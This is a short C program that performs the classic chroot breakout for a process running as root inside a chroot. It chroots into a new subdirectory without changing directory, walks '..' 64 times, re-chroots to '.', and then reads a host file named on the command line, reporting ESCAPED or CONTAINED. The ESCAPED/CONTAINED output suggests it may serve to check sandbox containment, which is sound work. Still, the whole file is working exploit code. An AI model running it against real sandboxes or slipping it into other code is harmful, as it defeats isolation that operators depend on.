// The classic way out of a chroot, for a process that is root inside it.
// chroot() moves the process's root but not its working directory, and the
// kernel stops ".." only where a path walk meets the process's root: a
// working directory left outside the new root climbs to the real one.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static void show_cwd(void) {
  char buf[4096];
  // The raw syscall: glibc's getcwd() hides the kernel's "(unreachable)" prefix.
  long n = syscall(SYS_getcwd, buf, sizeof buf);
  printf("escape:   getcwd() = \"%s\"\n", n > 0 ? buf : strerror(errno));
}

static void show_root(void) {
  struct dirent **names;
  int n = scandir("/", &names, NULL, alphasort), shown = 0;
  printf("escape:   / holds:");
  for (int i = 0; i < n; i++) {
    if (names[i]->d_name[0] != '.' && shown++ < 14) printf(" %s", names[i]->d_name);
  }
  printf("%s\n", shown > 14 ? " ..." : "");
}

int main(int argc, char **argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: escape PATH-OF-A-FILE-ON-THE-HOST\n");
    return 1;
  }
  printf("escape: starting as uid %d\n", getuid());
  show_root();
  if (mkdir("/.escape", 0700) != 0 && errno != EEXIST) {
    printf("escape: mkdir(\"/.escape\"): %s\n", strerror(errno));
    return 1;
  }
  if (chroot("/.escape") != 0) {
    printf("escape: chroot(\"/.escape\"): %s\n", strerror(errno));
    return 1;
  }
  printf("escape: chroot(\"/.escape\") = 0, and no chdir: the cwd is now outside the root\n");
  show_cwd();
  for (int i = 0; i < 64; i++) chdir("..");
  printf("escape: chdir(\"..\") x 64\n");
  show_cwd();
  if (chroot(".") != 0) {
    printf("escape: chroot(\".\"): %s\n", strerror(errno));
    return 1;
  }
  printf("escape: chroot(\".\") = 0\n");
  show_root();
  char line[256] = "";
  FILE *f = fopen(argv[1], "r");
  if (!f) {
    printf("escape: open(\"%s\"): %s: CONTAINED\n", argv[1], strerror(errno));
    return 3;
  }
  if (!fgets(line, sizeof line, f)) line[0] = 0;
  line[strcspn(line, "\n")] = 0;
  printf("escape: open(\"%s\") = found, it reads \"%s\": ESCAPED\n", argv[1], line);
  return 0;
}
